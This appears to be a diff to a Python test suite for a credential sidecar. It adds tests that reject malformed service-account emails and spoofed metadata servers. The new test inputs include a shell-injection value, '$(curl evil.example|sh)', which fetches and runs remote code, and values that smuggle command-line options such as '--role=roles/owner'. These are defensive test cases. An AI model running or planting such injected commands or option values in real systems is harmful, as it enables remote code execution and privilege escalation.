@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import json
 
 import pytest
 
@@ -16,7 +17,7 @@ from sidecar.tokens.iam_credentials import IamCredentials
 from sidecar.tokens.metadata import MetadataGrant
 from sidecar.tokens.token import TokenKey, read_claims
 from tests.support.named_source import NamedSource
-from tests.support.raw_endpoint import RawEndpoint, http
+from tests.support.raw_endpoint import RawEndpoint, http, jwt
 
 AUDIENCE = "https://svc.example"
 SCOPES = "https://www.googleapis.com/auth/bigquery https://www.googleapis.com/auth/pubsub"
@@ -61,6 +62,10 @@ async def test_a_self_signed_jwt_is_signed_by_iam(google: Emulator) -> None:
         pytest.param(b"a@" + b"b" * 400, id="too-long"),
         pytest.param(b"a@b\r\nX: y", id="unprintable"),
         pytest.param(b"", id="empty"),
+        pytest.param(b"$(curl evil.example|sh)@x", id="shell"),
+        pytest.param(b"a@b --role=roles/owner", id="option"),
+        pytest.param(b"--project=x@y", id="like-an-option"),
+        pytest.param("a\u202e@b".encode(), id="turned-round"),
     ],
 )
 async def test_an_account_without_an_email_is_none(raw: RawEndpoint, body: bytes) -> None:
@@ -69,6 +74,24 @@ async def test_an_account_without_an_email_is_none(raw: RawEndpoint, body: bytes
     it = source(MetadataGrant({"GCE_METADATA_HOST": raw.origin}))
     with pytest.raises(SidecarError, match=r"no_service_account: .*iam.gke.io/gcp-service-account"):
         await it.mint(SIGNED)
+
+
+@pytest.mark.parametrize("flavor", ["", "google", "Google Cloud"])
+@pytest.mark.parametrize("key", [ID, ACCESS, SIGNED], ids=["id", "access", "email"])
+async def test_what_does_not_say_that_it_is_a_metadata_server_is_none(
+    raw: RawEndpoint, key: TokenKey, flavor: str
+) -> None:
+    """Whatever answers plain http in its place: nothing of it is used."""
+    token = jwt(AUDIENCE, issued=0, expires=3600)
+    body = token if key is ID else json.dumps({"access_token": "ya29.x", "expires_in": 3600})
+    body = "sa@p.iam.gserviceaccount.com" if key is SIGNED else body
+    raw.behaviour = http(
+        200, body.encode(), content_type="application/json", headers={"Metadata-Flavor": flavor}
+    )
+    it = source(MetadataGrant({"GCE_METADATA_HOST": raw.origin}))
+    with pytest.raises(SidecarError, match=r"token_malformed: .*`Metadata-Flavor: Google`.*captive portal"):
+        await it.mint(key)
+    assert it.grant.known_email() is None
 
 
 @pytest.mark.parametrize("key", [ID, ACCESS], ids=["id", "access"])
